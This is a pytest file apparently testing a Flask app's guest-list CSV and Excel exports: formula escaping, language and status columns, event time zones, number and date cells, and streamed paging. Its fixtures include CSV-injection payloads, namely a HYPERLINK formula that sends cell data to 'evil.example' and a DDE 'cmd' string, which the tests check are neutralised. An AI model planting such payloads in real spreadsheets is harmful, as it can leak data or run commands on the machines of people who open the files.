"""The guest exports (app/dashboard/exports.py): for people (the guest's language, RSVP and
delivery in words beside their codes, times in the event's zone, numbers and dates as such in
Excel), streamed page by page, and every text cell formula-safe, titles included."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from typing import Any

from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from app.dashboard.exports import EXPORT_CHUNK, export_header
from app.models import DeliveryStatus, Rsvp, SendState
from app.services.sheets.limits import Budget
from app.services.sheets.xlsx import xlsx_records
from tests.support.database import execute, sql_statements
from tests.support.factories import invite, make_event, make_guests

# Column titles a hostile CSV may carry; each is a live formula if written raw.
TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
]
NAME = '=HYPERLINK("http://evil.example","Ana")'
VALUES = ["=1+1", "@x", "+1", "-1"]
# A guest with no invitation yet, after the imported columns.
NOT_INVITED = {
    "RSVP": "No answer",
    "RSVP code": "",
    "RSVP at (UTC)": "",
    "Party size": "",  # not said
    "Plus ones": "0",  # the event's allowance
    "Checked in": "0",  # nobody of the party came in
    "Arrived at (UTC)": "",
    "Delivery": "Not sent",
    "Delivery code": "not_sent",
    "Error code": "",
    "Error reason": "",
    "Opted out": "No",
}
# 04:49:06 UTC is 05:49:06 in Madrid (CET, UTC+1) on 6 December 2026.
ANSWERED_AT = datetime(2026, 12, 6, 4, 49, 6, 509141, tzinfo=UTC)


def import_hostile_file(client: FlaskClient, event_id: int) -> None:
    """Import one guest from a CSV whose titles (and values) are formulas."""
    lines = [["name", "phone", *TITLES], [NAME, "+34612345678", *VALUES]]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(lines)
    response = client.post(
        f"/events/{event_id}/guests",
        data={"file": (io.BytesIO(buffer.getvalue().encode()), "guests.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    assert 'data-stat="imported">1<' in response.get_data(as_text=True)


def read_export(client: FlaskClient, url: str) -> tuple[bytes, list[list[str]]]:
    """Download a CSV export; return the raw bytes and the parsed rows."""
    response = client.get(url)
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.is_streamed
    data = response.get_data()
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def read_workbook(client: FlaskClient, url: str) -> list[list[Any]]:
    """Download an Excel export; return its cells, as openpyxl reads them, row by row."""
    response = client.get(url)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_csv_export_escapes_formula_titles_and_values(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app)
    import_hostile_file(user, event_id)
    _, (header, record) = read_export(user, f"/events/{event_id}/guests.csv")
    # A leading quote: spreadsheets show the title as written, as text.
    assert dict(zip(header, record, strict=True)) == {
        "Name": "'" + NAME,
        "Phone": "+34612345678",
        "Language": "Spanish",
        "Language code": "es",
        **{"'" + title: "'" + value for title, value in zip(TITLES, VALUES, strict=True)},
        **NOT_INVITED,
    }


def test_xlsx_export_writes_formula_titles_as_text(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app)
    import_hostile_file(user, event_id)
    response = user.get(f"/events/{event_id}/guests.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(max_row=2))
    assert all(cell.data_type != "f" for row in rows for cell in row)
    header, record = ([cell.value for cell in row] for row in rows)
    # The text as stored, visible as written; Excel's quote prefix keeps an edit text too.
    assert dict(zip(header, record, strict=True)) == {
        "Name": NAME,
        "Phone": "+34612345678",
        "Language": "Spanish",
        "Language code": "es",
        **dict(zip(TITLES, VALUES, strict=True)),
        **{title: value or None for title, value in NOT_INVITED.items()},
        "Plus ones": 0,  # a number cell
        "Checked in": 0,
    }
    marked = {cell.value for cell in rows[0] if cell.quotePrefix}
    assert marked == set(TITLES)
    # The phone's + too: a formula to Excel if typed again without it.
    assert {cell.value for cell in rows[1] if cell.quotePrefix} == {NAME, "+34612345678", *VALUES}


def test_xlsx_export_of_control_characters_a_cell_cant_hold(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app)
    body = 'name,phone,note\nAna,+34612345678,"bell\x07 and\x01 escape\x1b\nnext line"\n'
    imported = user.post(
        f"/events/{event_id}/guests",
        data={"file": (io.BytesIO(body.encode()), "guests.csv")},
        content_type="multipart/form-data",
    )
    assert 'data-stat="imported">1<' in imported.get_data(as_text=True)
    response = user.get(f"/events/{event_id}/guests.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    assert sheet["E2"].value == "bell\ufffd and\ufffd escape\ufffd\nnext line"


def test_csv_export_says_each_status_in_words_and_codes(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app)
    ada, laila, _ = make_guests(
        app,
        event_id,
        [
            ("Ada Lovelace", "+12025550101"),
            ("ليلى أحمد", "+971501234567"),
            ("=HYPERLINK(1)", "+12025550103"),
        ],
    )
    invite(app, ada, delivery_status=DeliveryStatus.READ, rsvp=Rsvp.CONFIRMED)
    invite(
        app, laila, send_state=SendState.FAILED, error_code=63024, error_reason="not on WhatsApp"
    )
    data, (header, *body) = read_export(user, f"/events/{event_id}/guests.csv")
    assert data.startswith(b"\xef\xbb\xbfName,Phone,Language,")  # UTF-8 with BOM, for Excel
    assert header == export_header([], "UTC")
    records = [dict(zip(header, row, strict=True)) for row in body]
    assert [(r["Name"], r["Phone"]) for r in records] == [
        ("Ada Lovelace", "+12025550101"),
        ("ليلى أحمد", "+971501234567"),
        ("'=HYPERLINK(1)", "+12025550103"),  # quoted, so a spreadsheet shows it as text
    ]
    # The language the guest gets their messages in: none stored, their phone's country's.
    assert [(r["Language"], r["Language code"]) for r in records] == [
        ("English", "en"),
        ("Arabic", "ar"),
        ("English", "en"),
    ]
    statuses = ["RSVP", "RSVP code", "Delivery", "Delivery code", "Error code", "Error reason"]
    assert [[r[title] for title in statuses] for r in records] == [
        ["Confirmed", "confirmed", "Read", "read", "", ""],
        ["No answer", "", "Failed", "failed", "63024", "not on WhatsApp"],
        ["No answer", "", "Not sent", "not_sent", "", ""],
    ]
    execute(app, "UPDATE events SET plus_ones = 2 WHERE id = :id", id=event_id)
    execute(app, "UPDATE guests SET party_size = 3, plus_ones = 4 WHERE id = :id", id=ada)
    _, (header, *body) = read_export(user, f"/events/{event_id}/guests.csv")
    records = [dict(zip(header, row, strict=True)) for row in body]
    heads = [(r["Party size"], r["Plus ones"]) for r in records]
    assert heads == [("3", "4"), ("", "2"), ("", "2")]
    response = user.get(f"/events/{event_id}/guests.csv")
    assert (
        response.headers["Content-Disposition"]
        == f'attachment; filename="event-{event_id}-guests.csv"'
    )
    response.close()


def test_exports_write_times_in_the_events_zone(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app, "Boda", time_zone="Europe/Madrid")
    (lucia,) = make_guests(app, event_id, [("Lucía", "+34631931491")], language="es")
    invite(app, lucia, rsvp=Rsvp.DECLINED, rsvp_at=ANSWERED_AT)
    _, (header, record) = read_export(user, f"/events/{event_id}/guests.csv")
    row = dict(zip(header, record, strict=True))
    # ISO 8601 with the offset of the event's zone; whole seconds, as people read them.
    assert row["RSVP at (Europe/Madrid)"] == "2026-12-06T05:49:06+01:00"
    assert (row["RSVP"], row["RSVP code"]) == ("Declined", "declined")
    assert (row["Language"], row["Language code"]) == ("Spanish", "es")
    cells = read_workbook(user, f"/events/{event_id}/guests.xlsx")
    sheet_row = dict(zip(cells[0], cells[1], strict=True))
    # A date cell (Excel has no zones: the event's local time, the title names the zone).
    assert sheet_row["RSVP at (Europe/Madrid)"] == datetime(2026, 12, 6, 5, 49, 6)


def test_xlsx_export_writes_numbers_and_dates_as_such(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app, time_zone="America/Sao_Paulo")
    pasted = (
        "name,phone,Mesa,Importe,Código postal,Nota\n"
        "Ana,+5511987654321,7,12.50,08001,-1\n"
        "Bo,+5511987654322,12,3,28001,=1+1\n"
    )
    user.post(f"/events/{event_id}/guests", data={"pasted": pasted})
    response = user.get(f"/events/{event_id}/guests.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    first = {title: cell for title, cell in zip(header, sheet[2], strict=True)}
    # Numbers an organiser sums or sorts are numbers; codes with a leading zero, signs and
    # formulas stay text (and formula-safe), phones too.
    assert (first["Mesa"].value, first["Mesa"].data_type) == (7, "n")
    assert (first["Importe"].value, first["Importe"].data_type) == (12.5, "n")
    assert (first["Código postal"].value, first["Código postal"].data_type) == ("08001", "s")
    assert (first["Nota"].value, first["Nota"].quotePrefix) == ("-1", True)
    assert (first["Phone"].value, first["Phone"].data_type) == ("+5511987654321", "s")
    second = {title: cell for title, cell in zip(header, sheet[3], strict=True)}
    assert (second["Nota"].value, second["Nota"].data_type) == ("=1+1", "s")


def test_csv_export_applies_the_filters_and_streams_many_rows(
    app: Flask, user: FlaskClient
) -> None:
    event_id = make_event(app)
    ids = make_guests(app, event_id, [(f"Guest {n:04d}", f"+1202555{n:04d}") for n in range(1100)])
    invite(app, ids[1050], rsvp=Rsvp.MAYBE)
    _, rows = read_export(user, f"/events/{event_id}/guests.csv")
    assert len(rows) == 1101
    _, maybe = read_export(user, f"/events/{event_id}/guests.csv?rsvp=maybe")
    assert [row[0] for row in maybe[1:]] == ["Guest 1050"]
    _, found = read_export(user, f"/events/{event_id}/guests.csv?q=guest+105")
    assert [row[0] for row in found[1:]] == [f"Guest 105{n}" for n in range(10)]
    _, phones = read_export(user, f"/events/{event_id}/guests.csv?q=%2B1+202+555+108")
    assert [row[0] for row in phones[1:]] == [f"Guest 108{n}" for n in range(10)]
    _, both = read_export(user, f"/events/{event_id}/guests.csv?q=guest+105&delivery=not_sent")
    assert len(both) == 1 + 9  # Guest 1050 was invited
    _, none = read_export(user, f"/events/{event_id}/guests.csv?q=nobody&rsvp=maybe")
    assert none == [export_header([], "UTC")]


def test_csv_export_streams_one_page_per_query(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app)
    count = 2 * EXPORT_CHUNK + 10
    make_guests(app, event_id, [(f"Guest {n:04d}", f"+1202555{n:04d}") for n in range(count)])
    with sql_statements(app) as statements:
        response = user.get(f"/events/{event_id}/guests.csv")
        chunks = iter(response.response)
        first = next(chunks)
        pages = [s for s in statements if "FROM guests" in s and "jsonb_object_keys" not in s]
        pages_read_first = len(pages)
        rest = list(chunks)
        response.close()
    pages_read = sum(
        "FROM guests" in statement and "jsonb_object_keys" not in statement
        for statement in statements
    )
    # The first chunk goes out after one page is read, with the header and that page.
    assert pages_read_first == 1
    assert len(list(csv.reader(io.StringIO(first.decode("utf-8-sig"))))) == 1 + EXPORT_CHUNK
    assert pages_read == 3
    rows = list(csv.reader(io.StringIO(b"".join([first, *rest]).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [f"Guest {n:04d}" for n in range(count)]


def test_exports_keep_every_imported_column_in_csv_and_xlsx(app: Flask, user: FlaskClient) -> None:
    event_id = make_event(app)
    pasted = "name;phone;Mesa;Nota\nAna;+34612345678;7;=1+1\nليلى;+971501234567;;VIP\n"
    user.post(f"/events/{event_id}/guests", data={"pasted": pasted})
    user.post(f"/events/{event_id}/guests", data={"pasted": "name,phone,Extra\nBo,+12025550101,x"})
    data, rows = read_export(user, f"/events/{event_id}/guests.csv")
    assert data.startswith(b"\xef\xbb\xbfName,Phone,Language,Language code,Mesa,Nota,Extra,RSVP,")
    assert [row[4:7] for row in rows[1:]] == [["7", "'=1+1", ""], ["", "VIP", ""], ["", "", "x"]]
    response = user.get(f"/events/{event_id}/guests.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith('guests.xlsx"')
    cells = [record for _, record in xlsx_records(response.data, Budget())]  # as imported
    assert cells[0][:8] == [
        "Name",
        "Phone",
        "Language",
        "Language code",
        "Mesa",
        "Nota",
        "Extra",
        "RSVP",
    ]
    assert cells[1][:6] == ["Ana", "+34612345678", "Spanish", "es", "7", "=1+1"]  # not a formula
    assert cells[2][:6] == ["ليلى", "+971501234567", "Arabic", "ar", "", "VIP"]
